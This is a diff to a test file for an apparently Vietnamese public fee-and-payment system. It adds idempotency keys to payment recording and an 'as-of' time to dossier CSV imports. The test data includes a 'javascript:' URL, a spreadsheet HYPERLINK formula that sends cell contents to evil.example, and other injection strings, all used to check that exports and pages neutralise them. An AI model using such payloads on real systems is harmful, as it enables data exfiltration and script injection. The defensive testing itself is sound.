@@ -144,10 +144,12 @@ test('an obligation is written down, made smaller, paid at the desk, and given b
   );
   expect((await lead.post(`${path}/exempt`, { ...grant, reduced: '2.000' })).to).toBe(path);
 
-  const paid = { method: 'counter', paidAt: '2026-11-21T09:00', evidence: 'BL 000123' };
+  const paid = { method: 'counter', paidAt: '2026-11-21T09:00', evidence: 'BL 000123', idempotencyKey: 'page-1' };
   expect((await clerk.post(`${path}/record`, { ...paid, paidAt: '2026-11-22T09:00' })).text).toContain('tương lai');
   expect((await clerk.post(`${path}/record`, paid)).to).toBe(path);
-  expect((await clerk.post(`${path}/record`, paid)).status).toBe(409);
+  // the same page sent twice changes nothing; what another page says is refused
+  expect((await clerk.post(`${path}/record`, paid)).to).toBe(path);
+  expect((await clerk.post(`${path}/record`, { ...paid, idempotencyKey: 'page-2' })).status).toBe(409);
   expect((await clerk.post(`${path}/receipt`, { url: 'javascript:alert(1)' })).status).toBe(422);
   expect((await clerk.post(`${path}/receipt`, { kind: 'le_phi', number: 'AA/25 0001' })).to).toBe(path);
   const after = (await clerk.page(path)).text;
@@ -243,6 +245,7 @@ test('an officer asks for a payment: one message whole, once, or a reason why no
     method: 'counter',
     paidAt: '2026-11-21T09:10',
     evidence: 'BL 9',
+    idempotencyKey: 'page-3',
   });
   await expect.poll(() => bubbles().at(-1), { timeout: 20_000 }).toContain('Đã nhận 8.000 đồng');
   expect((await ask('khoa-0007')).text).toBe(`Hồ sơ ${code} đã nộp 8.000 đồng ngày 21/11/2026.`);
@@ -322,8 +325,25 @@ test('files that are none, and accounts that are not ours, are refused in words 
   ] as const) {
     expect([answer.status, answer.text.slice(0, words.length)]).toEqual([422, words]);
   }
-  const dossiers = await lead.upload('/dossiers/import', 'a.csv', 'một,hai\n1,2\n');
-  expect([dossiers.status, dossiers.text.slice(0, 14)]).toEqual([422, 'Không thấy cột']);
+  const dossiers = async (asOf: string) => {
+    const fields: Record<string, string> = asOf === '' ? {} : { 'as-of': asOf };
+    const { status, text } = await lead.upload('/dossiers/import', 'a.csv', 'một,hai\n1,2\n', fields);
+    return [status, text.slice(0, 14)];
+  };
+  expect(await dossiers('2026-11-20T17:00')).toEqual([422, 'Không thấy cột']);
+  for (const asOf of ['', 'hôm qua', '2026-13-40T00:00', '2026-11-20'])
+    expect(await dossiers(asOf)).toEqual([422, 'Chọn ngày giờ ']);
+  expect(await dossiers('2026-11-22T17:00')).toEqual([422, 'Dữ liệu không ']);
+});
+
+test('a list of dossiers read in at the console tells citizens the time it was drawn at', async () => {
+  const lead = await signedIn('lead');
+  const list = 'Mã hồ sơ,Trạng thái,Ngày tiếp nhận\nH29.33-261120-0007,Đang xử lý,20/11/2026\n';
+  const done = await lead.upload('/dossiers/import', 'một cửa.csv', list, { 'as-of': '2026-11-20T17:30' });
+  expect(done.status).toBe(200);
+  const report = (await lead.page(JSON.parse(done.text).url.replace(base, ''))).text;
+  expect(report).toContain('dữ liệu lúc 17:30 ngày 20/11/2026');
+  expect((await lead.page('/dossiers')).text).toContain('dữ liệu lúc 17:30 ngày 20/11/2026');
 });
 
 test('books for the accountant: formulas are words, in both kinds of file', async () => {
@@ -331,7 +351,7 @@ test('books for the accountant: formulas are words, in both kinds of file', asyn
   const lead = await signedIn('lead');
   const formula = '=HYPERLINK("https://evil.example?"&A1,"bấm")';
   const made = (await clerk.post('/payments/orders', order({ purpose: formula }))).to!;
-  const recorded = { method: 'counter', paidAt: '2026-11-21T09:20', evidence: '=1+1' };
+  const recorded = { method: 'counter', paidAt: '2026-11-21T09:20', evidence: '=1+1', idempotencyKey: 'page-1' };
   expect((await clerk.post(`${made}/record`, recorded)).to).toBe(made);
   const period = 'from=2026-11-21&to=2026-11-21';
   expect((await clerk.page(`/payments/export.csv?${period}`)).status).toBe(403);
@@ -362,7 +382,12 @@ test('what people write is words on every page about money', async () => {
     .to!;
   const grant = { position: '0', reduced: '1000', group: evil, proof: evil, legalRef: evil };
   await lead.post(`${made}/exempt`, grant);
-  await clerk.post(`${made}/record`, { method: 'portal', paidAt: '2026-11-21T09:20', evidence: evil });
+  await clerk.post(`${made}/record`, {
+    method: 'portal',
+    paidAt: '2026-11-21T09:20',
+    evidence: evil,
+    idempotencyKey: 'page-4',
+  });
   await clerk.post(`${made}/receipt`, { number: evil.slice(0, 60) });
   const movement = /payments\/movements\/([0-9a-f-]{36})\/refund/.exec((await clerk.page(made)).text)![1]!;
   await clerk.post(`/payments/movements/${movement}/refund`, { amount: '1000', reason: evil, way: 'by_hand' });
